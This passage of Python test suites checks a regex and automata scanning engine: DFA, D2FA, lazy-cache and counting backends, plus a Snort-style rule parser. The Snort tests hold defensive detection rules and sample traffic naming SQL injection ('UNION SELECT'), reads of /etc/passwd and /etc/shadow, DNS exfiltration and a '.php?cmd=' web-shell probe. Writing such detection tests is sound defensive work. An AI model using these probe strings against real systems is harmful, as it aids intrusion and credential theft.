            assert DfaEngine(small).run(text).matches == DfaEngine(dfa).run(text).matches

    def test_idempotent(self):
        dfa = minimize(build_dfa(["ab*c", "d"]))
        again = minimize(dfa)
        assert again.num_states == dfa.num_states

    def test_distinct_accept_sets_not_merged(self):
        dfa = minimize(build_dfa(["ab", "ac"]))
        accept_sets = {accept for accept in dfa.accepts if accept}
        assert frozenset({0}) in accept_sets and frozenset({1}) in accept_sets


class TestD2fa:
    def test_lookup_equals_dfa(self):
        dfa = minimize(build_dfa(["abc", "abd", "xbc"]))
        d2fa = compress_default_transitions(dfa)
        for state in range(dfa.num_states):
            for byte in range(256):
                assert d2fa.lookup(state, byte) == dfa.rows[state][byte]

    def test_compression_reduces_stored_transitions(self):
        dfa = minimize(build_dfa(["abcde", "abcdf", "abcdg"]))
        d2fa = compress_default_transitions(dfa)
        assert d2fa.num_stored_transitions < dfa.num_transitions

    def test_depth_bound(self):
        dfa = minimize(build_dfa(["abcd", "bcda", "cdab", "dabc"]))
        bounded = compress_default_transitions(dfa, max_depth=1)
        assert bounded.max_default_depth() <= 1

    def test_engine_equivalence(self):
        patterns = ["hello", "he[lx]p", "lp+o"]
        dfa = minimize(build_dfa(patterns))
        d2fa = compress_default_transitions(dfa)
        for text in ("hello help lppo", "", "hhhh", "helphello"):
            assert D2faEngine(d2fa).run(text).matches == DfaEngine(dfa).run(text).matches

    def test_chain_walk_counted(self):
        dfa = minimize(build_dfa(["abc", "abd"]))
        d2fa = compress_default_transitions(dfa, min_shared=1)
        stats = D2faEngine(d2fa).run("abcabd").stats
        assert stats.transitions_examined >= stats.chars_processed


class TestEngineAgainstNfa:
    @pytest.mark.parametrize("patterns,text", [
        (["ab", "bc"], "abcabc"),
        (["a+b"], "aaab aab"),
        (["x.*y"], "x123y45y"),
        (["[0-9]{2}"], "a12b345"),
        (["abc", "abd", "ab"], "zabdabcab"),
    ])
    def test_dfa_matches_reference(self, patterns, text):
        dfa = build_dfa(patterns)
        assert DfaEngine(dfa).run(text).matches == expected_matches(patterns, text)


@given(st.lists(ere_patterns(), min_size=1, max_size=3), input_strings())
@settings(max_examples=60, deadline=None)
def test_dfa_pipeline_equivalence_property(patterns, text):
    """determinise → minimise → D2FA all agree with the NFA reference."""
    try:
        dfa = build_dfa(patterns, max_states=3000)
    except DfaExplosionError:
        return
    expected = expected_matches(patterns, text)
    assert DfaEngine(dfa).run(text).matches == expected
    small = minimize(dfa)
    assert DfaEngine(small).run(text).matches == expected
    d2fa = compress_default_transitions(small)
    assert D2faEngine(d2fa).run(text).matches == expected


class TestAnchoredVsDerivatives:
    """Anchored subset construction cross-checked against the independent
    Brzozowski derivative DFA (whole-string semantics on both sides)."""

    @pytest.mark.parametrize("pattern", [
        "abc", "a(b|c)*d", "[0-9]{2,4}", "x.*y", "(ab|a)b*",
    ])
    def test_language_agreement(self, pattern):
        from repro.automata.brzozowski import accepts as deriv_accepts
        from repro.frontend.parser import parse

        dfa = determinize(compile_ruleset_fsas([pattern]), streaming=False)
        node = parse(pattern)
        probes = ["", "a", "ab", "abc", "abcd", "xy", "x12y", "99", "1234",
                  "abb", "acd", "x\nY"]
        for text in probes:
            state = dfa.initial
            alive = True
            for byte in text.encode("latin-1"):
                state = dfa.rows[state][byte]
                if state == -1:
                    alive = False
                    break
            got = alive and bool(dfa.accepts[state])
            assert got == deriv_accepts(node, text), (pattern, text)


@given(st.lists(ere_patterns(), min_size=1, max_size=2), input_strings())
@settings(max_examples=60, deadline=None)
def test_anchored_dfa_vs_derivatives_property(patterns, text):
    from repro.automata.brzozowski import accepts as deriv_accepts
    from repro.frontend.parser import parse

    try:
        dfa = determinize(compile_ruleset_fsas(patterns), streaming=False,
                          max_states=2000)
    except DfaExplosionError:
        return
    state = dfa.initial
    if not text:
        got_rules = set(dfa.accepts[dfa.initial])
    else:
        alive = True
        for byte in text.encode("latin-1"):
            state = dfa.rows[state][byte]
            if state == -1:
                alive = False
                break
        got_rules = set(dfa.accepts[state]) if alive else set()
    expected = {i for i, p in enumerate(patterns) if deriv_accepts(parse(p), text)}
    assert got_rules == expected
