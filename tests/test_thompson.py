"""Unit tests for Thompson construction (AST → ε-NFA)."""

import pytest

from repro.automata.fsa import Fsa
from repro.automata.simulate import accepts
from repro.automata.thompson import thompson_construct
from repro.frontend.parser import parse


def build(pattern: str) -> Fsa:
    return thompson_construct(parse(pattern), pattern=pattern)


class TestStructure:
    def test_literal_shape(self):
        fsa = build("a")
        assert fsa.num_states == 2
        assert fsa.num_transitions == 1
        assert not fsa.has_epsilon()

    def test_single_initial_single_final(self):
        for pattern in ("a", "ab", "a|b", "a*", "(ab){2,4}"):
            fsa = build(pattern)
            assert len(fsa.finals) == 1

    def test_concat_uses_epsilon_glue(self):
        fsa = build("ab")
        assert sum(1 for t in fsa.transitions if t.is_epsilon()) == 1

    def test_pattern_recorded(self):
        assert build("ab").pattern == "ab"

    def test_validates(self):
        build("(a|b)*c{2,3}").validate()


class TestLanguage:
    @pytest.mark.parametrize("pattern,inside,outside", [
        ("a", ["a"], ["", "b", "aa"]),
        ("ab", ["ab"], ["a", "b", "ba"]),
        ("a|b", ["a", "b"], ["", "ab"]),
        ("a*", ["", "a", "aaaa"], ["b"]),
        ("a+", ["a", "aa"], [""]),
        ("a?", ["", "a"], ["aa"]),
        ("a{3}", ["aaa"], ["aa", "aaaa"]),
        ("a{2,}", ["aa", "aaaaa"], ["a"]),
        ("a{1,3}", ["a", "aa", "aaa"], ["", "aaaa"]),
        ("a{0,2}", ["", "a", "aa"], ["aaa"]),
        ("(ab|cd)+", ["ab", "abcd", "cdab"], ["", "ac"]),
        ("[a-c]x", ["ax", "bx", "cx"], ["dx", "x"]),
        ("(a|)b", ["ab", "b"], ["a"]),
        ("a{0}", [""], ["a"]),
    ])
    def test_membership(self, pattern, inside, outside):
        fsa = build(pattern)
        for s in inside:
            assert accepts(fsa, s), (pattern, s)
        for s in outside:
            assert not accepts(fsa, s), (pattern, s)

    def test_empty_pattern_accepts_only_empty(self):
        fsa = build("")
        assert accepts(fsa, "")
        assert not accepts(fsa, "a")

    def test_nested_stars(self):
        fsa = build("((a*)*)*")
        assert accepts(fsa, "")
        assert accepts(fsa, "aaa")

    def test_bounded_after_unbounded(self):
        fsa = build("(a{2,})?b")
        assert accepts(fsa, "b")
        assert accepts(fsa, "aab")
        assert not accepts(fsa, "ab")


class TestBadInput:
    def test_unknown_node_type(self):
        with pytest.raises(TypeError):
            thompson_construct("not an ast")  # type: ignore[arg-type]
