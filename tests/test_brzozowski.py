"""Tests for the Brzozowski-derivative oracle."""

import re

import pytest
from hypothesis import given, settings

from repro.automata.brzozowski import (
    DerivativeBudgetError,
    Never,
    accepts,
    derivative,
    derivative_dfa,
    nullable,
)
from repro.automata.optimize import compile_re_to_fsa
from repro.automata.simulate import accepts as nfa_accepts
from repro.frontend.ast import Empty, Literal
from repro.frontend.parser import parse
from repro.labels import CharClass

from conftest import ere_patterns, input_strings


class TestNullable:
    @pytest.mark.parametrize("pattern,expected", [
        ("", True), ("a", False), ("a*", True), ("a+", False),
        ("a?", True), ("a|", True), ("ab", False), ("a{0,3}", True),
        ("(a*)(b*)", True), ("(a|b)c", False),
    ])
    def test_cases(self, pattern, expected):
        assert nullable(parse(pattern)) == expected

    def test_never(self):
        assert not nullable(Never())


class TestDerivative:
    def test_literal_hit(self):
        assert derivative(parse("a"), ord("a")) == Empty()

    def test_literal_miss(self):
        assert isinstance(derivative(parse("a"), ord("b")), Never)

    def test_concat_nullable_head(self):
        d = derivative(parse("a*b"), ord("b"))
        assert nullable(d)

    def test_class_membership(self):
        node = Literal(CharClass.from_range("a", "f"))
        assert derivative(node, ord("c")) == Empty()
        assert isinstance(derivative(node, ord("z")), Never)

    def test_repeat_counts_down(self):
        d = derivative(parse("a{3}"), ord("a"))
        assert accepts(d, "aa") and not accepts(d, "aaa")

    def test_zero_repeat(self):
        assert isinstance(derivative(parse("a{0}"), ord("a")), Never)


class TestAccepts:
    @pytest.mark.parametrize("pattern,text,expected", [
        ("abc", "abc", True),
        ("abc", "abd", False),
        ("(ab)*", "abab", True),
        ("(ab)*", "aba", False),
        ("a{2,4}", "aaa", True),
        ("a{2,4}", "aaaaa", False),
        ("[a-c]+z", "abz", True),
        ("[a-c]+z", "abdz", False),
        ("[a-c]+z", "z", False),
        ("x.*y", "xanythingy", True),
    ])
    def test_cases(self, pattern, text, expected):
        assert accepts(parse(pattern), text) == expected

    def test_bytes_input(self):
        assert accepts(parse("\\x00"), bytes([0]))


class TestDerivativeDfa:
    def test_anchored_acceptance(self):
        from repro.dfa.dfa import DEAD

        dfa = derivative_dfa(parse("ab|cd"))
        state = dfa.initial
        for byte in b"ab":
            state = dfa.rows[state][byte]
        assert dfa.accepts[state]

    def test_small_state_count(self):
        dfa = derivative_dfa(parse("(a|b)*abb"))
        assert dfa.num_states <= 8  # the classic example minimises to 4

    def test_budget(self):
        with pytest.raises(DerivativeBudgetError):
            derivative_dfa(parse("(a|aa){1,12}b"), max_states=5)


@given(ere_patterns(), input_strings())
@settings(max_examples=250, deadline=None)
def test_derivatives_agree_with_nfa_pipeline(pattern, text):
    """Three-way oracle: derivatives == Thompson pipeline == Python re."""
    node = parse(pattern)
    got = accepts(node, text)
    assert got == nfa_accepts(compile_re_to_fsa(pattern), text)
    assert got == bool(re.compile(f"(?:{pattern})\\Z").match(text))


@given(ere_patterns(), input_strings())
@settings(max_examples=80, deadline=None)
def test_derivative_dfa_agrees(pattern, text):
    try:
        dfa = derivative_dfa(parse(pattern), max_states=500)
    except DerivativeBudgetError:
        return
    state = dfa.initial
    alive = True
    for byte in text.encode("latin-1"):
        state = dfa.rows[state][byte]
        if state == -1:
            alive = False
            break
    got = alive and bool(dfa.accepts[state])
    assert got == accepts(parse(pattern), text)