"""Tests for the snort-lite rule ingestion front-end."""

import pytest

from repro.automata.simulate import find_match_ends
from repro.frontend.snortlite import (
    SnortParseError,
    compile_snort_rules,
    parse_rules,
)

SAMPLE = '''
# demo ruleset
alert tcp any any -> any 80 (msg:"SQLi probe"; content:"union select"; nocase; sid:1001;)
alert tcp any any -> any any (pcre:"/etc\\/(passwd|shadow)/"; sid:1002;)
drop udp any any -> any 53 (content:"|04|evil|03|com"; msg:"dns exfil"; sid:1003;)
alert tcp any any -> any any (content:"GET "; content:".php?cmd="; sid:1004;)
'''


class TestParsing:
    def test_counts_and_metadata(self):
        rules = parse_rules(SAMPLE)
        assert len(rules) == 4
        assert rules[0].action == "alert"
        assert rules[0].msg == "SQLi probe"
        assert rules[0].sid == 1001
        assert rules[2].action == "drop"

    def test_nocase_flag(self):
        rules = parse_rules(SAMPLE)
        assert rules[0].nocase
        assert not rules[1].nocase

    def test_content_escaping(self):
        rule = parse_rules('alert tcp a a -> a a (content:"a.b+c"; sid:1;)')[0]
        assert rule.pattern == "a\\.b\\+c"

    def test_hex_blocks(self):
        rules = parse_rules(SAMPLE)
        assert rules[2].pattern.startswith("\\x04evil\\x03com")

    def test_multiple_contents_joined(self):
        rules = parse_rules(SAMPLE)
        assert rules[3].pattern == "GET .*\\.php\\?cmd="

    def test_continuation_lines(self):
        text = ('alert tcp any any -> any any (msg:"two liner"; \\\n'
                '    content:"abc"; sid:7;)')
        rules = parse_rules(text)
        assert len(rules) == 1
        assert rules[0].sid == 7

    def test_unknown_options_ignored(self):
        rule = parse_rules(
            'alert tcp a a -> a a (content:"x"; flow:to_server; classtype:misc; sid:2;)'
        )[0]
        assert set(rule.ignored_options) == {"flow", "classtype"}

    def test_semicolon_inside_quotes(self):
        rule = parse_rules('alert tcp a a -> a a (content:"a;b"; sid:3;)')[0]
        assert rule.pattern == "a;b"


class TestErrors:
    @pytest.mark.parametrize("bad", [
        "not a rule at all",
        'alert tcp a a -> a a (nocase; sid:1;)',            # nocase w/o content
        'alert tcp a a -> a a (sid:1;)',                     # no pattern
        'alert tcp a a -> a a (content:"|zz|"; sid:1;)',     # bad hex
        'alert tcp a a -> a a (content:"|41"; sid:1;)',      # unterminated hex
        'alert tcp a a -> a a (content:"x"; sid:abc;)',      # bad sid
        'alert tcp a a -> a a (pcre:"no-slashes"; sid:1;)',  # bad pcre
        'alert tcp a a -> a a (pcre:"/a/x"; sid:1;)',        # unsupported flag
        'alert tcp a a -> a a (content:"unterminated;)',     # open quote
    ])
    def test_rejected(self, bad):
        with pytest.raises(SnortParseError):
            parse_rules(bad)

    def test_line_number_in_error(self):
        with pytest.raises(SnortParseError, match="line 3"):
            parse_rules("\n\nbroken rule\n")


class TestCompile:
    def test_rules_fire_on_traffic(self):
        rules, fsas = compile_snort_rules(SAMPLE)
        traffic = (b"GET /x.php?cmd=id HTTP/1.1\r\n"
                   b"q=1 UNION SELECT pass FROM users\r\n"
                   b"read /etc/passwd\r\n")
        fired = set()
        for rule, fsa in zip(rules, fsas):
            if find_match_ends(fsa, traffic):
                fired.add(rule.sid)
        assert fired == {1001, 1002, 1004}

    def test_nocase_applies_per_rule(self):
        rules, fsas = compile_snort_rules(SAMPLE)
        nocase_fsa = fsas[0]
        assert find_match_ends(nocase_fsa, b"UNION SELECT")
        case_fsa = fsas[1]
        assert not find_match_ends(case_fsa, b"ETC/PASSWD")

    def test_hex_rule_matches_binary(self):
        rules, fsas = compile_snort_rules(SAMPLE)
        payload = bytes([4]) + b"evil" + bytes([3]) + b"com"
        assert find_match_ends(fsas[2], payload)


class TestSnortRulesetEngine:
    def test_scan_reports_rules_and_offsets(self):
        from repro.frontend.snortlite import SnortRulesetEngine

        engine = SnortRulesetEngine(SAMPLE)
        traffic = b"GET /x.php?cmd=id UNION SELECT"
        alerts = engine.scan(traffic)
        sids = {rule.sid for rule, _ in alerts}
        assert 1004 in sids
        assert 1001 in sids  # nocase rule fires on upper case
        ends = [end for _, end in alerts]
        assert ends == sorted(ends)  # ordered by offset

    def test_merging_factor_forwarded(self):
        from repro.frontend.snortlite import SnortRulesetEngine

        split = SnortRulesetEngine(SAMPLE, merging_factor=1)
        merged = SnortRulesetEngine(SAMPLE, merging_factor=0)
        traffic = b"GET /a.php?cmd=1 union select etc/passwd"
        assert {(r.sid, e) for r, e in split.scan(traffic)} == \
               {(r.sid, e) for r, e in merged.scan(traffic)}

    def test_all_nocase_ruleset(self):
        from repro.frontend.snortlite import SnortRulesetEngine

        text = 'alert tcp a a -> a a (content:"abc"; nocase; sid:1;)'
        engine = SnortRulesetEngine(text)
        assert [r.sid for r, _ in engine.scan(b"xABCx")] == [1]
