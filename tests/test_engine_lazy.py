"""Tests for the lazy-DFA configuration-cache backend (backend="lazy").

The lazy backend must be *observationally identical* to the python
backend — match sets, work counters, single-match early exit — while
only its cache behaviour (hits/misses/evictions/flushes) differs with
the cache budget.  Property tests drive random rulesets and payloads
through both, including ε-accepting rules, ``pop_on_final``, and caches
small enough to evict mid-stream.
"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import repro.obs as obs
from repro.engine.chunkscan import chunk_scan, ruleset_max_width
from repro.engine.hybrid import HybridEngine
from repro.engine.imfant import IMfantEngine
from repro.engine.lazy import LazyConfigCache
from repro.engine.tables import MfsaTables
from repro.mfsa.activation import ActivationConfig, reference_match
from repro.mfsa.merge import merge_fsas

from conftest import compile_ruleset_fsas, ere_patterns, input_strings


def build(patterns):
    return merge_fsas(compile_ruleset_fsas(patterns))


STATS_FIELDS = (
    "chars_processed",
    "transitions_examined",
    "transitions_taken",
    "active_pair_total",
    "max_state_activation",
    "match_count",
    "mask_limbs",
)


def assert_stats_equal(a, b):
    for field in STATS_FIELDS:
        assert getattr(a, field) == getattr(b, field), field


class TestLazyBackend:
    def test_matches_reference(self):
        mfsa = build(["(ad|cb)ab", "a(b|c)"])
        engine = IMfantEngine(mfsa, backend="lazy")
        assert engine.run("acbab").matches == reference_match(mfsa, "acbab")

    def test_stats_agree_with_python(self):
        mfsa = build(["abc", "a[bc]d", "xy"])
        text = "abcxydabcd" * 3
        py = IMfantEngine(mfsa, backend="python").run(text)
        lazy = IMfantEngine(mfsa, backend="lazy").run(text)
        assert py.matches == lazy.matches
        assert_stats_equal(py.stats, lazy.stats)

    def test_empty_matching_rules(self):
        mfsa = build(["a*", "b"])
        got = IMfantEngine(mfsa, backend="lazy").run("b").matches
        assert got == {(0, 0), (0, 1), (1, 1)}

    def test_pop_on_final(self):
        mfsa = build(["ab+"])
        engine = IMfantEngine(mfsa, backend="lazy", pop_on_final=True)
        expected = reference_match(mfsa, "abbb", ActivationConfig(pop_on_final=True))
        assert engine.run("abbb").matches == expected

    def test_single_match_early_exit(self):
        mfsa = build(["ab"])
        engine = IMfantEngine(mfsa, backend="lazy", single_match=True)
        result = engine.run("ab" + "z" * 1000)
        assert result.matches == {(0, 2)}
        assert result.stats.chars_processed == 2

    def test_multi_limb_rules(self):
        patterns = [f"x{chr(97 + i % 26)}{chr(97 + (i // 26) % 26)}y" for i in range(70)]
        mfsa = build(patterns)
        text = "xaay xbay xzzy"
        assert IMfantEngine(mfsa, backend="lazy").run(text).matches == reference_match(mfsa, text)

    def test_invalid_cache_config(self):
        mfsa = build(["a"])
        with pytest.raises(ValueError):
            IMfantEngine(mfsa, backend="lazy", lazy_cache_size=0)
        with pytest.raises(ValueError):
            IMfantEngine(mfsa, backend="lazy", lazy_eviction="random")


class TestCacheBehaviour:
    def test_warm_cache_hits(self):
        mfsa = build(["abc", "bc+d"])
        engine = IMfantEngine(mfsa, backend="lazy")
        text = "abcdbcd" * 20
        engine.run(text)
        cold = engine.lazy_cache.stats
        assert cold.misses > 0
        misses_after_first = cold.misses
        engine.run(text)
        # steady state: the second pass re-walks only cached transitions
        assert engine.lazy_cache.stats.misses == misses_after_first
        assert engine.lazy_cache.stats.hits >= len(text)

    def test_cache_persists_across_runs(self):
        mfsa = build(["ab"])
        engine = IMfantEngine(mfsa, backend="lazy")
        engine.run("abab")
        configs = engine.lazy_cache.num_configs
        engine.run("abab")
        assert engine.lazy_cache.num_configs == configs

    def test_flush_eviction_bounds_cache(self):
        mfsa = build(["abc", "a[bc]d", "[a-d]+x"])
        engine = IMfantEngine(mfsa, backend="lazy", lazy_cache_size=4)
        text = "abcdxadbcax" * 40
        result = engine.run(text)
        cache = engine.lazy_cache
        assert result.matches == IMfantEngine(mfsa).run(text).matches
        assert cache.stats.flushes > 0
        assert len(cache.transitions) <= 4
        assert cache.num_configs <= 4 + 2

    def test_lru_eviction_bounds_cache(self):
        mfsa = build(["abc", "a[bc]d", "[a-d]+x"])
        engine = IMfantEngine(mfsa, backend="lazy", lazy_cache_size=4,
                              lazy_eviction="lru")
        text = "abcdxadbcax" * 40
        result = engine.run(text)
        cache = engine.lazy_cache
        assert result.matches == IMfantEngine(mfsa).run(text).matches
        assert cache.stats.evictions > 0
        assert len(cache.transitions) <= 4
        assert cache.num_configs <= 2 * 4 + 2

    def test_fork_gives_private_cold_cache(self):
        mfsa = build(["ab"])
        engine = IMfantEngine(mfsa, backend="lazy")
        engine.run("ababab")
        clone = engine.fork()
        assert clone.tables is engine.tables
        assert clone.lazy_cache is not engine.lazy_cache
        assert clone.lazy_cache.stats.lookups == 0
        assert clone.run("ababab").matches == engine.run("ababab").matches

    def test_cache_roundtrip_helpers(self):
        mfsa = build(["ab"])
        cache = LazyConfigCache(MfsaTables.build(mfsa))
        frontier = {3: 1, 1: 1}
        ident = cache.config_id_of(frontier)
        assert cache.frontier_of(ident) == frontier
        assert cache.config_id_of({}) == 0


class TestObsIntegration:
    def test_counters_exported(self):
        mfsa = build(["abc", "bcd"])
        engine = IMfantEngine(mfsa, backend="lazy", lazy_cache_size=4)
        text = "abcdbcax" * 30
        with obs.capture() as cap:
            engine.run(text)
        reg = cap.registry
        hits = reg.get("imfant_lazy_cache_hits_total")
        misses = reg.get("imfant_lazy_cache_misses_total")
        flushes = reg.get("imfant_lazy_cache_flushes_total")
        configs = reg.get("imfant_lazy_distinct_configs")
        assert hits is not None and misses is not None
        assert hits.value + misses.value == len(text)
        assert flushes is not None and flushes.value >= 0
        assert configs is not None and configs.value == engine.lazy_cache.num_configs

    def test_sampler_histograms_agree_with_python(self):
        mfsa = build(["abc", "a[bc]d"])
        text = "abcadbcabcd" * 40
        with obs.capture(stride=8) as py_cap:
            IMfantEngine(mfsa, backend="python").run(text)
        with obs.capture(stride=8) as lazy_cap:
            IMfantEngine(mfsa, backend="lazy").run(text)
        for name in ("imfant_active_set_size", "imfant_frontier_width",
                     "imfant_transitions_per_byte"):
            py_hist = py_cap.registry.get(name)
            lazy_hist = lazy_cap.registry.get(name)
            assert py_hist.snapshot()["counts"] == lazy_hist.snapshot()["counts"], name


class TestPlumbing:
    def test_chunkscan_lazy(self):
        patterns = ["abc", "a[bc]d"]
        mfsa = build(patterns)
        data = "abcadxbcabcd" * 200
        expected = IMfantEngine(mfsa).run(data).matches
        got = chunk_scan(mfsa, data, strategy="overlap",
                         overlap=ruleset_max_width(patterns),
                         chunk_size=256, num_threads=4, backend="lazy",
                         lazy_cache_size=64)
        assert got == expected

    def test_hybrid_lazy(self):
        patterns = ["abc", "x[^\\n]{40,60}y"]
        data = "abc" + "x" + "q" * 50 + "y" + "abc"
        base, _ = HybridEngine(patterns).run(data)
        lazy, _ = HybridEngine(patterns, backend="lazy", lazy_cache_size=128).run(data)
        assert lazy == base


# ---------------------------------------------------------------------------
# Property tests (satellite: lazy/python equivalence under stress)
# ---------------------------------------------------------------------------


@given(st.data())
@settings(max_examples=60, deadline=None)
def test_lazy_agreement_property(data):
    """Random rulesets/payloads: lazy == python on matches and counters,
    for every cache size (including ones that evict mid-stream) and both
    eviction policies."""
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=4))
    text = data.draw(input_strings())
    pop = data.draw(st.booleans())
    cache_size = data.draw(st.sampled_from([1, 2, 8, 4096]))
    eviction = data.draw(st.sampled_from(["flush", "lru"]))
    mfsa = build(patterns)
    py = IMfantEngine(mfsa, backend="python", pop_on_final=pop).run(text)
    lazy = IMfantEngine(mfsa, backend="lazy", pop_on_final=pop,
                        lazy_cache_size=cache_size, lazy_eviction=eviction).run(text)
    assert py.matches == reference_match(
        mfsa, text, ActivationConfig(pop_on_final=pop))
    assert lazy.matches == py.matches
    assert_stats_equal(py.stats, lazy.stats)


@given(st.data())
@settings(max_examples=40, deadline=None)
def test_lazy_epsilon_rules_property(data):
    """Rulesets guaranteed to contain an ε-accepting rule (star of a
    pattern) still agree, across both eviction policies under pressure."""
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=3))
    starred = data.draw(st.integers(min_value=0, max_value=len(patterns) - 1))
    patterns[starred] = f"({patterns[starred]})*"
    text = data.draw(input_strings())
    eviction = data.draw(st.sampled_from(["flush", "lru"]))
    mfsa = build(patterns)
    py = IMfantEngine(mfsa, backend="python").run(text)
    lazy = IMfantEngine(mfsa, backend="lazy", lazy_cache_size=2,
                        lazy_eviction=eviction).run(text)
    assert lazy.matches == py.matches
    assert_stats_equal(py.stats, lazy.stats)


@given(st.data())
@settings(max_examples=40, deadline=None)
def test_lazy_single_match_property(data):
    """single_match: identical first-match sets and consumed-byte counts."""
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=4))
    text = data.draw(input_strings())
    mfsa = build(patterns)
    py = IMfantEngine(mfsa, backend="python", single_match=True).run(text)
    lazy = IMfantEngine(mfsa, backend="lazy", single_match=True,
                        lazy_cache_size=4).run(text)
    assert lazy.matches == py.matches
    assert lazy.stats.chars_processed == py.stats.chars_processed


@given(st.data())
@settings(max_examples=30, deadline=None)
def test_lazy_warm_cache_stays_correct_property(data):
    """Re-running different payloads through one warm engine never
    corrupts results (the cache carries state across runs)."""
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=3))
    texts = data.draw(st.lists(input_strings(), min_size=2, max_size=4))
    eviction = data.draw(st.sampled_from(["flush", "lru"]))
    mfsa = build(patterns)
    engine = IMfantEngine(mfsa, backend="lazy", lazy_cache_size=8,
                          lazy_eviction=eviction)
    for text in texts:
        expected = IMfantEngine(mfsa, backend="python").run(text)
        got = engine.run(text)
        assert got.matches == expected.matches
        assert_stats_equal(expected.stats, got.stats)
