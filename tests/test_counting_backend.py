"""Differential oracle suite for the counting-automata engine backend.

``backend="counting"`` carries bounded ``{m,n}`` repeats as counter
registers on the merged automaton instead of expanded state chains.  The
loop-expanded pipeline over the *same* patterns is an independent oracle
— every property here pins the two against each other:

* byte-identical ``(rule, end)`` match sets on hypothesis-random
  rulesets full of bounded (and unbounded ``{m,}``) repeats;
* agreement across every backend running the same counting compile (the
  counting backend drives the registers, the others the ``expand()``
  bridge);
* cut-point invariance: chunked scans at arbitrary chunk sizes equal
  the sequential scan;
* mid-scan deadlines surface sound partial results, never corruption;
* ``single_match`` = first (min-end) match per rule;
* exact JSON round trips of counting automata;
* the headline capability: a ``[^\\n]{1000}``-style repeat compiles
  under a state budget that makes the expansion pipeline refuse, with
  byte-identical matches to the (unbudgeted) expanded oracle.

See docs/testing.md for the conformance-oracle pattern.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import repro.obs as obs
from repro.engine.chunkscan import chunk_scan, mfsa_max_width
from repro.engine.imfant import IMfantEngine
from repro.guard.budget import Budget
from repro.guard.errors import BudgetExceeded, ScanDeadlineExceeded
from repro.mfsa import serialize
from repro.pipeline.compiler import CompileOptions, compile_ruleset

pytestmark = pytest.mark.counting

BACKENDS = ("python", "numpy", "lazy", "dense", "counting")

#: Text alphabet covering every atom the pattern strategy can emit.
TEXT_ALPHABET = "abxy012 \n"


@st.composite
def counted_patterns(draw) -> str:
    """One pattern built around a bounded or unbounded repeat."""
    atom = draw(st.sampled_from(["a", "b", "[ab]", "[^x]", "[0-9]", "(xy)"]))
    low = draw(st.integers(min_value=0, max_value=4))
    unbounded = low >= 1 and draw(st.booleans())
    if unbounded:
        bound = f"{{{low},}}"
    else:
        high = draw(st.integers(min_value=max(low, 1), max_value=12))
        bound = f"{{{low},{high}}}"
    prefix = draw(st.sampled_from(["", "x", "ab", "y?"]))
    suffix = draw(st.sampled_from(["", "y", "ba", "[01]"]))
    return f"{prefix}{atom}{bound}{suffix}"


def rulesets():
    return st.lists(counted_patterns(), min_size=1, max_size=4)


def texts(max_size: int = 120):
    return st.text(alphabet=TEXT_ALPHABET, max_size=max_size)


def _compile_counting(patterns, threshold: int = 2):
    return compile_ruleset(
        patterns,
        CompileOptions(counting=True, count_threshold=threshold, emit_anml=False),
    ).mfsas


def _compile_expanded(patterns):
    return compile_ruleset(patterns, CompileOptions(emit_anml=False)).mfsas


def _matches(mfsas, payload, backend: str = "python", **kwargs) -> set:
    out: set = set()
    for mfsa in mfsas:
        engine = IMfantEngine(mfsa, backend=backend, **kwargs)
        out |= engine.run(payload, collect_stats=False).matches
    return out


# ---------------------------------------------------------------------------
# The core differential property
# ---------------------------------------------------------------------------


@given(patterns=rulesets(), text=texts())
@settings(max_examples=60, deadline=None)
def test_counting_equals_expanded_oracle(patterns, text):
    """Counting backend == loop-expanded pipeline, byte for byte."""
    counting = _compile_counting(patterns)
    expanded = _compile_expanded(patterns)
    assert _matches(counting, text, "counting") == _matches(expanded, text)


@given(patterns=rulesets(), text=texts(max_size=80))
@settings(max_examples=25, deadline=None)
def test_every_backend_agrees_on_counting_compile(patterns, text):
    """All five backends agree over the same counting compile: the
    counting backend runs the registers, the rest the expand() bridge."""
    counting = _compile_counting(patterns)
    reference = _matches(counting, text, "python")
    for backend in BACKENDS[1:]:
        assert _matches(counting, text, backend) == reference, backend


@given(
    patterns=rulesets(),
    text=texts(max_size=200),
    chunk_size=st.integers(min_value=1, max_value=64),
    threads=st.integers(min_value=1, max_value=4),
)
@settings(max_examples=25, deadline=None)
def test_cut_point_invariance(patterns, text, chunk_size, threads):
    """Chunked scans at arbitrary cut points equal the sequential scan —
    bounded counting rulesets via overlap chunking, unbounded ones via
    the automatic sequential fallback."""
    counting = _compile_counting(patterns)
    for mfsa in counting:
        sequential = IMfantEngine(mfsa, backend="counting").run(
            text, collect_stats=False
        ).matches
        # the overlap strategy requires chunk_size > match width; keep
        # the drawn size but floor it at the automaton's own bound
        width = mfsa_max_width(mfsa)
        size = chunk_size if width is None else max(chunk_size, width + 1)
        chunked = chunk_scan(
            mfsa, text, backend="counting",
            chunk_size=size, num_threads=threads,
        )
        assert chunked == sequential


@given(patterns=rulesets(), text=texts())
@settings(max_examples=25, deadline=None)
def test_single_match_is_first_match(patterns, text):
    counting = _compile_counting(patterns)
    full = _matches(counting, text, "counting")
    first = _matches(counting, text, "counting", single_match=True)
    expected: dict = {}
    for rule, end in full:
        if rule not in expected or end < expected[rule]:
            expected[rule] = end
    assert first == {(rule, end) for rule, end in expected.items()}


@given(patterns=rulesets())
@settings(max_examples=25, deadline=None)
def test_serialize_round_trip(patterns):
    """Counting automata survive the JSON cache format exactly."""
    for mfsa in _compile_counting(patterns):
        restored = serialize.loads(serialize.dumps(mfsa))
        assert type(restored) is type(mfsa)
        assert restored.num_states == mfsa.num_states
        assert restored.initials == mfsa.initials
        assert restored.finals == mfsa.finals
        if not hasattr(mfsa, "counting"):
            continue
        assert sorted(map(repr, restored.counting)) == sorted(map(repr, mfsa.counting))
        assert sorted(map(repr, restored.plain)) == sorted(map(repr, mfsa.plain))


# ---------------------------------------------------------------------------
# Deadlines and partial results
# ---------------------------------------------------------------------------


def test_mid_scan_deadline_yields_sound_partial():
    from repro.guard import faultinject

    mfsas = _compile_counting(["ab{3,9}c", "x[0-9]{2,}y"], threshold=2)
    payload = b"zabbbbc x12y " * 256
    full = _matches(mfsas, payload, "counting")
    engine = IMfantEngine(
        mfsas[0], backend="counting", scan_deadline=0.02, deadline_stride=1
    )
    with faultinject.inject("engine.step_delay", 0.005):
